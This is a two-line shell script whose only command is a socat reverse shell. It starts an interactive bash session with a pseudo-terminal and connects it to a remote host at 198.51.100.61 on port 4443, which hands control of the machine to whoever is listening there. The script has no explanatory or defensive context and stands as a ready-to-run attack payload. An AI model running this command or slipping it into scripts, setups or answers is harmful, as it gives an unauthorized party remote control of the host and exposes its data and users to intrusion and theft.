#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.61:4443
